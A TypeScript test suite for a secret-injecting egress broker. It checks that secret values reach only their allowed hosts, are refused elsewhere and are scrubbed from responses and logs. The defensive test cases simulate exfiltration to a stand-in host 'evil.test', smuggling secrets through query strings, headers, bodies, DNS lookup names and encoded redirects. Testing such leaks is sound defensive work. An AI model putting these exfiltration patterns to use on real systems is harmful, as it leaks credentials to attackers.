import type { IncomingHttpHeaders, IncomingMessage, ServerResponse } from "node:http";
import fc from "fast-check";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { openCallSecrets } from "../secrets/call-secrets.ts";
import {
  get,
  startBroker,
  startHttpServer,
  startHttpsServer,
  type TestBroker,
  type TestServer,
} from "./fixtures/broker-harness.ts";
import { createTestCertificates, type TestCertificates } from "./fixtures/certificates.ts";
import { startDnsServer, type TestDnsServer } from "./fixtures/dns-server.ts";
import type { EgressReply } from "./messages.ts";

// Guarantee: a value reaches the hosts of its secret exactly as it is, nobody else, and comes back in no form that is looked for.
interface Seen {
  readonly host: string;
  readonly url: URL;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

let certificates: TestCertificates;
let secure: TestServer;
let plain: TestServer;
let dns: TestDnsServer;
let broker: TestBroker;
let seen: Seen[] = [];
/** What the server answers with; decided by each test. */
let respond: (seen: Seen, response: ServerResponse) => void = (_, response) => response.end("ok");

async function listener(request: IncomingMessage, response: ServerResponse) {
  const body = Buffer.concat((await request.toArray()) as Buffer[]).toString("utf8");
  const { host = "" } = request.headers;
  const one = { host, url: new URL(request.url ?? "/", "https://up.test"), headers: request.headers, body };
  seen.push(one);
  respond(one, response);
}

beforeAll(async () => {
  certificates = createTestCertificates();
  const names = ["up.test", "eu.up.test", "evil.test"];
  secure = await startHttpsServer(certificates.issue(names), listener);
  plain = await startHttpServer(listener);
  dns = await startDnsServer((name, type) =>
    name === "public.test" && type === "A" ? [{ type, data: "93.184.216.34" }] : 3,
  );
  const staticHosts = Object.fromEntries(
    names.flatMap((name) => [
      [`${name}:443`, `127.0.0.1:${secure.port}`],
      [`${name}:80`, `127.0.0.1:${plain.port}`],
    ]),
  );
  broker = startBroker(
    { caFile: certificates.caFile, allowPrivate: ["127.0.0.0/8"], staticHosts, dnsServers: [dns.address] },
    [...names, "public.test", "*.up.test", "dns:*"],
  );
});

afterAll(async () => {
  await broker.close();
  await secure.close();
  await plain.close();
  await dns.close();
  certificates.remove();
});

beforeEach(() => {
  seen = [];
  respond = (_, response) => response.end("ok");
});

const value = `k"1%2B\\n+/=&é €'<`;

function open(more: Partial<{ value: string; hosts: string[]; exposed: boolean }> = {}) {
  const secret = { name: "KEY", value, hosts: ["up.test", "*.up.test"], exposed: false, ...more };
  const secrets = openCallSecrets([secret], { sourceId: "test", signal: new AbortController().signal });
  return { lease: broker.lease({ secrets }), key: secrets.given["KEY"] ?? "", secrets };
}

const asUtf8 = (header: unknown): string => Buffer.from(String(header), "latin1").toString("utf8");
const basicOf = (pair: string): string => `Basic ${Buffer.from(pair).toString("base64")}`;

async function textOf(reply: Promise<EgressReply>): Promise<string> {
  const answer = await reply;
  if (!answer.ok || !("status" in answer)) throw new Error(JSON.stringify(answer));
  return answer.bodyText ?? Buffer.from(answer.bodyBase64 ?? "", "base64").toString("latin1");
}

describe("filling in", () => {
  test("every place, exactly the value, whatever is in it", async () => {
    const values = fc.string({ unit: "grapheme", minLength: 1, maxLength: 40 });
    const odd = fc.string({ unit: fc.constantFrom(..."\"'\\%+&=#?/ é€😀<>;:,%41"), minLength: 1, maxLength: 40 });
    const valid = fc.oneof(values, odd).filter((text) => !/\p{Cc}/u.test(text) && !/^\.{1,2}$/.test(text));
    await fc.assert(
      fc.asyncProperty(valid, async (secret) => {
        const { lease, key } = open({ value: secret });
        const form = [["Content-Type", "application/x-www-form-urlencoded"]];
        const json = { a: [`<${key}>`, { b: key }] };
        await broker.send(
          get(`https://up.test/p/${key}/q?x=1&k=${key}&${key}=n`, {
            ...{ method: "POST", headers: [["X-Key", `<${key}>`], ["Authorization", basicOf(`user:${key}`)], ...form] },
            bodyText: `a=b&k=${key}&n=1`,
          }),
          lease,
        );
        // urllib calls everything a form.
        await broker.send(
          get("https://up.test/", { method: "POST", headers: form, bodyText: JSON.stringify(json) }),
          lease,
        );
        await broker.send(get("https://up.test/", { method: "PUT", bodyText: `text ${key}.` }), lease);
        const [first, second, third] = seen.splice(0);
        expect(first?.url.searchParams.get("k")).toBe(secret);
        expect(first?.url.searchParams.get(secret)).toBe("n");
        expect(decodeURIComponent(first?.url.pathname ?? "")).toBe(`/p/${secret}/q`);
        expect(asUtf8(first?.headers["x-key"])).toBe(`<${secret}>`);
        expect(first?.headers.authorization).toBe(basicOf(`user:${secret}`));
        expect(new URLSearchParams(first?.body).get("k")).toBe(secret);
        expect(JSON.parse(second?.body ?? "")).toEqual({ a: [`<${secret}>`, { b: secret }] });
        expect(third?.body).toBe(`text ${secret}.`);
        lease.close();
      }),
      { numRuns: 60 },
    );
  });

  test("a request to a host of a secret has no Range, and the size that is shown is that of the placeholder", async () => {
    const { lease, key } = open();
    const headers = [
      ["Range", "bytes=0-3"],
      ["If-Range", "x"],
      ["X-Key", key],
    ];
    await broker.send(get("https://up.test/", { method: "POST", headers, bodyText: key }), lease);
    expect(seen[0]?.headers).not.toHaveProperty("range");
    expect(seen[0]?.headers).not.toHaveProperty("if-range");
    expect(broker.calls.at(-1)).toMatchObject({ requestBytes: key.length });
  });
});

describe("refused", () => {
  test.each([
    [
      "another host",
      "https://evil.test/",
      { headers: [["X-Key", "KEY"]] },
      "may not go to evil.test: it is for up.test, *.up.test.",
    ],
    ["another host's query", "https://evil.test/?k=KEY", {}, "may not go to evil.test"],
    ["another host's body", "https://evil.test/", { method: "POST", bodyText: "KEY" }, "may not go to evil.test"],
    [
      "another host's credentials",
      "https://evil.test/",
      { headers: [["Authorization", "BASIC"]] },
      "may not go to evil.test",
    ],
    ["another port", "https://up.test:8443/?k=KEY", {}, "is not among the allowed hosts"],
    ["a host name", "https://KEY.up.test/", {}, "cannot be part of a host name"],
    ["the name of a header", "https://up.test/", { headers: [["KEY", "x"]] }, "cannot be the name of a header"],
    ["more places than a key needs", `https://up.test/?${"k=KEY&".repeat(21)}`, {}, "has 21 secrets in it"],
  ])("%s", async (_, url, fields, message) => {
    const { lease, key } = open();
    const text = JSON.stringify(get(url, fields))
      .replaceAll("KEY", key)
      .replace("BASIC", basicOf(`u:${key}`));
    const reply = JSON.parse(await lease.handle(text)) as EgressReply;
    expect(reply).toMatchObject({ ok: false, code: "EGRESS_DENIED" });
    expect(JSON.stringify(reply)).toContain(message);
    expect(JSON.stringify([reply, broker.calls.at(-1)])).not.toContain(key);
    expect(seen).toEqual([]);
  });

  test("plain http, but to a private place that the operator opened", async () => {
    const { lease, key } = open({ hosts: ["public.test", "up.test"] });
    expect(await broker.send(get(`http://public.test/?k=${key}`), lease)).toMatchObject({
      code: "EGRESS_DENIED",
      message: expect.stringContaining("The secret KEY goes over https only."),
    });
    expect(await broker.send(get(`http://up.test/?k=${key}`), lease)).toMatchObject({ ok: true });
    expect(seen[0]?.url.searchParams.get("k")).toBe(value);
  });

  test("lookups of names with a placeholder or an exposed value in them", async () => {
    const { lease, key } = open();
    const lookup = { op: "dns", name: `${key.toUpperCase()}.evil.test`, type: "TXT" };
    expect(await broker.send(lookup, lease)).toMatchObject({ code: "EGRESS_DENIED" });
    const exposed = open({ value: "s3cretvalue", exposed: true });
    for (const name of ["s3cretvalue", Buffer.from("s3cretvalue").toString("hex"), "eulavterc3s"]) {
      const reply = await broker.send({ ...lookup, name: `${name}.evil.test` }, exposed.lease);
      expect(reply).toMatchObject({ code: "EGRESS_DENIED", message: "The secret KEY cannot be part of a host name." });
    }
    expect(dns.questions).not.toContainEqual(expect.stringContaining("evil.test"));
    expect(JSON.stringify(broker.calls)).not.toMatch(/s3cretvalue|eulavterc3s/i);
  });

  test("an exposed value towards another host, however it is written", async () => {
    const { lease, key } = open({ value: "s3cret/value+x", exposed: true });
    expect(key).toBe("s3cret/value+x");
    const forms = [
      key,
      encodeURIComponent(key),
      Buffer.from(`ab${key}`).toString("base64url"),
      Buffer.from(key).toString("hex"),
    ];
    for (const form of forms) {
      expect(await broker.send(get(`https://evil.test/?k=${form}`), lease)).toMatchObject({ code: "EGRESS_DENIED" });
      const headers = [["X-Key", form]];
      expect(await broker.send(get("https://evil.test/", { headers }), lease)).toMatchObject({ code: "EGRESS_DENIED" });
      expect(await broker.send(get(`https://up.test/?k=${form}`), lease)).toMatchObject({ ok: true });
    }
    expect(new Set(seen.map(({ host }) => host))).toEqual(new Set(["up.test"]));
    expect(JSON.stringify(broker.calls)).not.toMatch(/s3cret/);
  });
});

describe("redirects", () => {
  const echoTo = (location: (seen: Seen) => string) => {
    respond = (one, response) =>
      one.url.pathname === "/go" ? response.writeHead(307, { location: location(one) }).end() : response.end("arrived");
  };
  const keyOf = (one: Seen): string => one.url.searchParams.get("k") ?? "";

  test.each([
    ["in the query", (key: string) => `https://evil.test/?k=${encodeURIComponent(key)}`],
    ["in base64", (key: string) => `https://evil.test/${Buffer.from(key).toString("base64url")}`],
    ["in hexadecimal", (key: string) => `https://evil.test/#?${Buffer.from(key).toString("hex")}`.replace("#", "")],
    ["in the host name", (key: string) => `https://${Buffer.from(key).toString("hex").slice(0, 60)}.up.test/`],
  ])("do not carry a value to another host %s", async (where, location) => {
    const short = where === "in the host name" ? "s3cretvalue" : value;
    echoTo((one) => location(keyOf(one)));
    const { lease, key } = open({ value: short });
    const reply = await broker.send(get(`https://up.test/go?k=${key}`), lease);
    expect(reply).toMatchObject({ ok: false, code: "EGRESS_DENIED" });
    expect(seen).toHaveLength(1);
    const manual = await broker.send(get(`https://up.test/go?k=${key}`, { redirect: "manual" }), lease);
    expect(manual).toMatchObject({
      ok: true,
      headers: expect.arrayContaining([["location", expect.stringContaining(key)]]),
    });
  });

  test("refuse a body with a secret that would go on to another host, and drop headers", async () => {
    echoTo(() => "https://evil.test/end");
    const { lease, key } = open();
    const message = get("https://up.test/go", { method: "POST", bodyText: key });
    expect(await broker.send(message, lease)).toMatchObject({ code: "EGRESS_DENIED", host: "evil.test" });
    expect(await broker.send(get("https://up.test/go", { headers: [["X-Key", key]] }), lease)).toMatchObject({
      ok: true,
    });
    expect(seen.map(({ host }) => host)).toEqual(["up.test", "up.test", "evil.test"]);
    expect(JSON.stringify(seen.at(-1)?.headers)).not.toContain("%2B");
  });

  test("within the hosts of the secret go on, filled in again", async () => {
    echoTo((one) => `https://eu.up.test/end?k=${encodeURIComponent(keyOf(one))}`);
    const { lease, key } = open();
    expect(await broker.send(get(`https://up.test/go?k=${key}`), lease)).toMatchObject({
      ok: true,
      url: `https://eu.up.test/end?k=${key}`,
      redirected: true,
    });
    expect(seen.map(keyOf)).toEqual([value, value]);
  });
});

describe("what comes back", () => {
  const html = (text: string): string =>
    text.replaceAll(/[&<>"']/g, (mark) => `&${mark === "&" ? "amp" : `#${mark.charCodeAt(0)}`};`);
  const hex = (text: string): string => Buffer.from(text).toString("hex");
  const forms: Record<string, (text: string) => string | Buffer> = {
    plain: (text) => text,
    percent: encodeURIComponent,
    "small percent": (text) => encodeURIComponent(text).replaceAll(/%../g, (part) => part.toLowerCase()),
    "all percent": (text) => hex(text).replaceAll(/../g, "%$&"),
    form: (text) => new URLSearchParams({ k: text }).toString(),
    JSON: (text) => JSON.stringify({ k: text }),
    "JSON in ASCII": (text) =>
      JSON.stringify(text).replaceAll(/[^ -~]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`),
    "JSON in JSON": (text) => JSON.stringify(JSON.stringify({ k: text })),
    "percent in percent": (text) => encodeURIComponent(encodeURIComponent(text)),
    html,
    base64: (text) => Buffer.from(text).toString("base64"),
    "base64, second place": (text) => Buffer.from(`u${text}v`).toString("base64"),
    "base64, third place": (text) => Buffer.from(`u:${text}vw`).toString("base64"),
    "base64 of credentials": (text) => Buffer.from(`user:${text}`).toString("base64url"),
    "base64 in lines": (text) => Buffer.from(text).toString("base64").replaceAll(/.{5}/g, "$&\r\n"),
    hexadecimal: hex,
    "large hexadecimal": (text) => hex(text).toUpperCase(),
    backwards: (text) => [...text].toReversed().join(""),
    "large letters": (text) => text.replaceAll(/[a-z]/g, (letter) => letter.toUpperCase()),
    "UTF-16": (text) => Buffer.from(text, "utf16le"),
    "among other bytes": (text) =>
      Buffer.concat([Buffer.from([0xff, 0, 0xfe]), Buffer.from(text), Buffer.from([0x80])]),
  };

  test("never holds the value, in none of these forms", async () => {
    const unit = fc.oneof(fc.constantFrom(...'"\\%+&/ é€😀<>;:,=-_'), fc.constantFrom(..."abcXYZ0189"));
    const values = fc.string({ unit, minLength: 8, maxLength: 60 }).filter((text) => new Set(text).size > 4);
    await fc.assert(
      fc.asyncProperty(values, fc.constantFrom(...Object.keys(forms)), async (secret, form) => {
        const encoded = Buffer.from(forms[form]?.(secret) ?? "");
        respond = (_, response) =>
          response.end(Buffer.concat([Buffer.from("before ["), encoded, Buffer.from("] after")]));
        const { lease, key } = open({ value: secret });
        const text = await textOf(broker.send(get(`https://up.test/?k=${key}`), lease));
        expect(text).toContain(key);
        expect(text).not.toContain(encoded.toString("utf8"));
        expect(text).not.toContain(encoded.toString("latin1"));
        expect(text.startsWith("before [") && text.endsWith("] after")).toBe(true);
        lease.close();
      }),
      { numRuns: 400 },
    );
  });

  test("is looked through in headers, status text and compressed bodies too; its length does not tell that of the value", async () => {
    respond = (one, response) => {
      const given = String(one.headers["x-key"]);
      response.writeHead(200, `OK ${given}`, {
        "x-echo": given,
        "x-basic": basicOf(given),
        "content-length": 4 + given.length,
      });
      response.end(`got ${given}`);
    };
    const { lease, key } = open({ value: "s3cretvalue" });
    const reply = await broker.send(get("https://up.test/", { headers: [["X-Key", key]] }), lease);
    expect(reply).toMatchObject({ ok: true, statusText: `OK ${key}`, bodyText: `got ${key}` });
    expect(JSON.stringify(reply)).not.toMatch(/s3cretvalue|content-length|czNjcmV0/);
    // Also in answers to requests that had no secret in them.
    respond = (_, response) => response.end("you once sent S3cretValue");
    expect(await textOf(broker.send(get("https://up.test/"), lease))).toBe(`you once sent ${key}`);
  });

  test("is left alone where nothing is in it, byte for byte, and where user code holds the value anyway", async () => {
    const bytes = Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7) % 256));
    respond = (_, response) => response.end(bytes);
    expect(await broker.send(get("https://up.test/"), open().lease)).toMatchObject({
      bodyBase64: bytes.toString("base64"),
    });
    respond = (one, response) => response.end(one.url.searchParams.get("k"));
    const exposed = open({ value: "s3cretvalue", exposed: true });
    expect(await textOf(broker.send(get(`https://up.test/?k=${exposed.key}`), exposed.lease))).toBe("s3cretvalue");
  });
});

test("records hold the slot's name in place of value and placeholder, errors too", async () => {
  const { lease, key } = open({ value: "s3cretvalue" });
  await broker.send(get(`https://up.test/${key}?k=${key}`), lease);
  await broker.send(get(`https://evil.test/?k=${key}`), lease);
  expect(broker.calls.slice(-2)).toMatchObject([
    { host: "up.test", path: "/[secret KEY]?k=[secret KEY]", status: 200 },
    {
      host: "evil.test",
      path: "/?k=[secret KEY]",
      status: 0,
      error: expect.stringContaining("The secret KEY may not go"),
    },
  ]);
});
